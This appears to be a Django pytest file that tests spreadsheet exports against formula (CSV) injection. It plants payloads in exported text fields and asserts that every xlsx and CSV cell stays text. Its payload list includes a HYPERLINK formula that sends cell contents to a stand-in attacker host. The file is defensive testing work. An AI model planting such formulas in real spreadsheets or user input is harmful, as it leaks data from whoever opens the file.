"""Exports that cannot attack: no text anyone typed becomes a formula in another's Excel.

Each formula payload is planted in every text field an export carries (through the actions
people use), then every export the URL configuration offers is downloaded as a province
officer would, and every cell is checked: no formula in an .xlsx, no field of a .csv that a
spreadsheet would read as one. An export the test does not know (a URL named like an export)
fails, and so does a module that writes a workbook or a CSV without the shared writer.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE as OPENPYXL_S

from ctip.catalogues.models import Audience, Topic
from ctip.core import exports as sheets
from ctip.outreach import actions
from ctip.outreach.models import Format
from ctip.units.actions import create_unit
from tests.conftest import log_activity, unit_type

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
SRC = Path(__file__).resolve().parents[2] / "src" / "ctip"

# URL names that look like an export and what they are. A new one must be added here: either
# how to download it (a spreadsheet, checked cell by cell) or why it is not a spreadsheet.
NOT_SPREADSHEETS = {
    "cases:person_export_json": "a person's own data as JSON (right of access)",
    "cases:person_export_pdf": "a person's own data as PDF",
    "cases:person_export_print": "a person's own data as a printable page",
    "reports:export_start": "starts a PDF export of a periodic report",
    "reports:export_status": "the state of a PDF export",
    "reports:export_retry": "queues a failed PDF export again (POST)",
    "reports:export_download": "a PDF file",
    "reports:dashboard_pdf": "a PDF file",
    "reports:htcds_export_json": "JSON (no formulas), written by core.exports.json_bytes",
    "reports:unit_htcds_export_json": "JSON (no formulas), written by core.exports.json_bytes",
}
EXPORT_NAME = re.compile(r"export|csv|xlsx|template|download")


def _names(resolver: Any = None, prefix: str = "") -> list[tuple[str, URLPattern]]:
    found = []
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            space = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            found += _names(entry, space)
        elif isinstance(entry, URLPattern) and entry.name:
            found.append((prefix + entry.name, entry))
    return found


def export_url_names() -> set[str]:
    names = {name for name, _pattern in _names() if EXPORT_NAME.search(name.split(":")[-1])}
    # downloads of files people uploaded (attachments, plans, materials) are theirs, as sent
    return {n for n in names if not re.search(r"attachment|material|plan", n)}


# --- The writer itself -----------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("write_only", [False, True])
def test_a_text_cell_stays_text_in_xlsx(payload: str, write_only: bool) -> None:
    book = sheets.workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    sheets.append(sheet, [payload, -5, 2.5, "#N/A", "bình thường"])
    book2 = load_workbook(io.BytesIO(sheets.save(book)))
    row = [c for c in next(book2["x"].iter_rows())]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]
    assert row[0].value.strip() == payload.strip()  # (XML keeps a carriage return as \n)
    assert row[1].value == -5  # a negative number stays a number
    assert row[0].quotePrefix  # stays text even when edited in Excel
    assert not row[4].quotePrefix


def test_cells_written_any_way_are_swept_at_save() -> None:
    book = sheets.workbook()
    sheet = book.active
    sheet["A1"] = "=1+1"  # a direct assignment that openpyxl would store as a formula
    sheet.append(["=SUM(A1)"])
    sheets.append(sheet, ["bad\x01control"])  # openpyxl itself would refuse this text
    book2 = load_workbook(io.BytesIO(sheets.save(book)))
    cells = [c for row in book2.active.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    assert book2.active["A3"].value == "badcontrol"


def test_csv_neutralises_text_not_numbers() -> None:
    data = sheets.csv_bytes([[p, -5, 1.5, None] for p in PAYLOADS], header=["a", "b", "c", "d"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["a", "b", "c", "d"]
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        assert row == ["'" + payload, "-5", "1.5", ""]
    assert '"' + "'=HYPERLINK" in data.decode("utf-8-sig")  # text fields are quoted


def test_no_module_writes_a_spreadsheet_without_the_shared_writer() -> None:
    writer = SRC / "core" / "exports.py"
    offenders = []
    pattern = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|WriteOnlyCell\b|"
                         r"from openpyxl import .*Workbook")
    for path in SRC.rglob("*.py"):
        if path == writer:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if pattern.search(line):
                offenders.append(f"{path.relative_to(SRC)}:{number}: {line.strip()}")
    assert offenders == [], "write spreadsheets through ctip.core.exports:\n" + "\n".join(
        offenders)


# --- Every export, through the application ---------------------------------------------------


@pytest.fixture
def planted(tree: Any, users: Any, formats: Any, audiences: Any) -> dict[str, Any]:
    """Every payload in every text field an export carries."""
    admin = users["system_admin"]
    today = timezone.localdate()
    # Formats and audiences are a seeded catalogue (no screen edits their names): renamed here.
    for payload, fmt, audience in zip(PAYLOADS, Format.objects.order_by("pk"),
                                      Audience.objects.order_by("pk"), strict=False):
        Format.objects.filter(pk=fmt.pk).update(name=payload)
        Audience.objects.filter(pk=audience.pk).update(name=payload)
    meeting = Format.objects.get(code="meeting")
    for index, payload in enumerate(PAYLOADS):
        commune = create_unit(actor=None, parent=tree.province, name=payload,
                              unit_type=unit_type("commune"))
        branch = create_unit(actor=None, parent=commune, name=f"{payload} {index}",
                             unit_type=unit_type("branch"))
        topic = actions.create_topic(actor=admin, name=f"{payload} {index}", kind=Topic.Kind.OTHER)
        speaker = actions.create_speaker(actor=admin, unit=commune, full_name=payload)
        movement = actions.create_movement(actor=admin, name=f"{payload} {index}")
        campaign = actions.create_campaign(actor=admin, unit=tree.province,
                                           name=f"{payload} {index}",
                                           starts_on=today - dt.timedelta(days=30),
                                           ends_on=today + dt.timedelta(days=30))
        log_activity(branch, meeting, actor=None, date=today, title=payload, notes=payload,
                     coordinating_agencies=payload, topics=[topic],
                     audiences=list(Audience.objects.order_by("pk")[:2]), speakers=[speaker],
                     movement=movement, campaign=campaign)
    return {"today": today}


def _spreadsheet_requests(tree: Any) -> dict[str, list[tuple[dict[str, Any], dict[str, Any]]]]:
    """How to download each spreadsheet export: [(url kwargs, query)]."""
    province = {"unit_id": tree.province.pk}
    return {
        "outreach:activity_export": [({}, {"start": ""})],
        "outreach:activity_import_template": [({}, {})],
        "org:branch_import_template": [({}, {}), ({}, {"format": "csv"})],
        "reports:export_xlsx": [({}, {"unit": tree.province.pk})],
        "reports:export_csv": [({}, {"unit": tree.province.pk})],
        "reports:ctdc_csv": [({}, {"unit": tree.province.pk})],
        "reports:unit_export_xlsx": [(province, {})],
        "reports:unit_export_csv": [(province, {})],
        "reports:unit_ctdc_csv": [(province, {})],
        "reports:ctdc_contribution_csv": [({}, {"unit": tree.province.pk})],
        "reports:unit_ctdc_contribution_csv": [(province, {})],
    }


def _content(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _xlsx_texts(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for one in row:
                assert one.data_type != "f", f"formula in {sheet.title}!{one.coordinate}"
                assert one.data_type != "e", f"error cell in {sheet.title}!{one.coordinate}"
                if isinstance(one.value, str):
                    texts.append(one.value)
                    if one.value.lstrip(" \n")[:1] in DANGEROUS:
                        assert one.quotePrefix, f"{sheet.title}!{one.coordinate}"
    return texts


def _csv_texts(data: bytes) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for field in row:
            texts.append(field)
            first = field.lstrip(" \n")[:1]
            if first in DANGEROUS:
                # only a number may start with "-" or "+"
                assert re.fullmatch(r"[-+]?\d+(\.\d+)?", field), repr(field)
    return texts


def test_every_export_is_known_to_this_test(tree: Any) -> None:
    known = set(_spreadsheet_requests(tree)) | set(NOT_SPREADSHEETS)
    assert export_url_names() - known == set(), (
        "a new export: add it to _spreadsheet_requests (or NOT_SPREADSHEETS with the reason)")


def test_no_export_carries_a_formula(planted: Any, tree: Any, users: Any,
                                     client_for: Any) -> None:
    client = client_for(users["system_admin"])
    seen: dict[str, list[str]] = {}
    for name, requests in _spreadsheet_requests(tree).items():
        for kwargs, query in requests:
            response = client.get(reverse(name, kwargs=kwargs), query)
            assert response.status_code == 200, (name, response.status_code)
            data = _content(response)
            kind = response["Content-Type"]
            if kind == sheets.XLSX_CONTENT_TYPE:
                texts = _xlsx_texts(data)
            else:
                assert kind.startswith("text/csv"), (name, kind)
                texts = _csv_texts(data)
            seen.setdefault(name, []).extend(texts)
    # The check is not vacuous: the payloads are in the exports that carry people's text.
    for name in ("outreach:activity_export", "outreach:activity_import_template",
                 "reports:export_xlsx", "reports:export_csv"):
        joined = "\n".join(seen[name])
        for payload in PAYLOADS:
            assert payload.strip()[:12] in joined, (name, payload)


def test_the_characters_refused_in_a_cell_are_openpyxl_s() -> None:
    """``core.exports`` keeps its own copy of openpyxl's pattern of the control characters a
    cell may not hold (so that a process loads openpyxl only to write a workbook): the same
    characters, all of them."""
    every = [chr(n) for n in range(0x800)] + ["\ufffe", "\uffff", "\U0001f600"]
    assert [c for c in every if sheets.ILLEGAL_CHARACTERS_RE.search(c)] == \
        [c for c in every if OPENPYXL_S.search(c)]
    assert sheets.excel_text("a\x00b\x0bc\td\ne") == "abc\td\ne"
